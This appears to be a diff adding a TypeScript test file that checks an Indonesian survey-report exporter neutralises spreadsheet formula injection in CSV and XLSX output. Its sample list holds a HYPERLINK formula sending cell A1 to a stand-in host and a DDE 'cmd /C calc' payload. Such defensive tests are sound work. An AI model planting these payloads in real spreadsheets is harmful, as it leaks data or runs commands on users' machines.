@@ -1,0 +1,117 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { parseCsv } from '$lib/import/csv';
+import { AWAL_RUMUS } from '$lib/import/xlsx-write';
+import { berkasSkm, csvSkm } from '$lib/laporan/berkas';
+import { bukuXlsx, csvTabel, teksCsvAman } from '$lib/laporan/lembar';
+import { laporanSkmUnit } from '$lib/laporan/skm-model';
+import { bacaLembar, xmlGaya, xmlLembar } from '../../fixtures/baca-xlsx';
+import { DIBUAT, inputSkm } from './demo';
+
+/** What spreadsheet users have seen attackers type into free-text fields. */
+const SERANGAN = [
+	'=HYPERLINK("http://contoh.invalid?x="&A1,"Klik")',
+	'+62 812 (nomor saya)',
+	'-2+3',
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	'\t=1+1',
+	'\r=1+1',
+	'  =1+1',
+	'＝1+1'
+];
+
+const bacaCsv = (teks: string) => parseCsv(teks).rows.map((r) => r.cells);
+
+describe('formula injection from free text', () => {
+	it('gets an apostrophe in CSV, so Excel shows the text instead of running it', () => {
+		for (const s of SERANGAN) {
+			expect(teksCsvAman(s)).toBe(`'${s}`);
+			expect(AWAL_RUMUS.test(teksCsvAman(s))).toBe(false);
+		}
+		expect(teksCsvAman('Antrean lama - mohon ditambah')).toBe('Antrean lama - mohon ditambah');
+	});
+
+	it('stays text in XLSX, unchanged, with the quote prefix Excel keeps when the cell is edited', () => {
+		const isi = bukuXlsx([{ nama: 'Saran', kolom: ['saran'], baris: SERANGAN.map((s) => [s]) }]);
+		const lembar = bacaLembar(isi, 'Saran');
+		expect(lembar.rows.map((r) => r.cells[0])).toEqual(SERANGAN);
+		const [xml] = xmlLembar(isi);
+		expect(xml).not.toMatch(/<f[\s>]/);
+		const gaya = /s="(\d+)"[^>]*t="inlineStr"/.exec(xml!.split('<row r="2">')[1]!)?.[1];
+		const xfs = xmlGaya(isi)
+			.split('<cellXfs')[1]!
+			.match(/<xf [^>]*\/>/g)!;
+		expect(xfs[Number(gaya)]).toContain('quotePrefix="1"');
+	});
+
+	it('is neutralised in a real report: a citizen’s saran that starts with = or @', () => {
+		const input = inputSkm('2026-TW2');
+		const target = input.responses.find((r) => r.saran)!;
+		const responses = input.responses.map((r, i) =>
+			r.unitId === target.unitId && i % 2 === 0 ? { ...r, saran: SERANGAN[i % SERANGAN.length] } : r
+		);
+		const laporan = laporanSkmUnit({ ...input, responses }, target.unitId)!;
+		const ditulis = laporan.unit[0]!.saran.map((s) => s.teks);
+		expect(ditulis.some((s) => AWAL_RUMUS.test(s))).toBe(true);
+
+		const xlsx = berkasSkm(laporan, 'xlsx', { locale: 'id', dibuat: DIBUAT }).isi;
+		const saran = bacaLembar(xlsx, 'Saran');
+		expect(saran.rows.map((r) => r.cells[saran.kolom('Saran')])).toEqual(ditulis);
+		for (const xml of xmlLembar(xlsx)) expect(xml).not.toMatch(/<f[\s>]/);
+	});
+
+	it('any text survives the CSV round trip and never starts a formula', () => {
+		fc.assert(
+			fc.property(
+				fc.array(fc.string({ unit: 'grapheme', maxLength: 30 }), { minLength: 1, maxLength: 6 }),
+				(teks) => {
+					const csv = csvTabel({
+						nama: 'x',
+						kolom: ['a', 'b'],
+						baris: teks.map((t) => [t, 'akhir'])
+					});
+					const baris = bacaCsv(csv);
+					expect(baris).toHaveLength(teks.length);
+					baris.forEach((cells, i) => {
+						const asli = teks[i]!;
+						expect(AWAL_RUMUS.test(cells[0]!)).toBe(false);
+						expect(cells[0]).toBe(AWAL_RUMUS.test(asli) ? `'${asli}` : asli);
+					});
+				}
+			)
+		);
+	});
+
+	it('any text survives the XLSX round trip unchanged, never as a formula', () => {
+		fc.assert(
+			fc.property(
+				fc.array(fc.string({ unit: 'grapheme', maxLength: 30 }), { minLength: 1, maxLength: 6 }),
+				(teks) => {
+					const isi = bukuXlsx([
+						{ nama: 'x', kolom: ['a', 'b'], baris: teks.map((t) => [t, 'akhir']) }
+					]);
+					const lembar = bacaLembar(isi, 'x');
+					expect(lembar.rows.map((r) => r.cells[0])).toEqual(teks.map((t) => t));
+					expect(xmlLembar(isi)[0]).not.toMatch(/<f[\s>]/);
+				}
+			),
+			{ numRuns: 60 }
+		);
+	});
+
+	it('leaves numbers as numbers, negative ones too', () => {
+		const csv = csvTabel({
+			nama: 'x',
+			kolom: ['gerak', 'indeks'],
+			baris: [
+				[
+					{ angka: -2, format: 'bulat' },
+					{ angka: 84.27, format: 'desimal2' }
+				]
+			]
+		});
+		expect(bacaCsv(csv)).toEqual([['-2', '84,27']]);
+		const isi = csvSkm(laporanSkmUnit(inputSkm('2026-TW2'), 'demo-dinkes')!, 'id').isi;
+		expect(new TextDecoder().decode(isi)).not.toMatch(/;'-?\d/);
+	});
+});
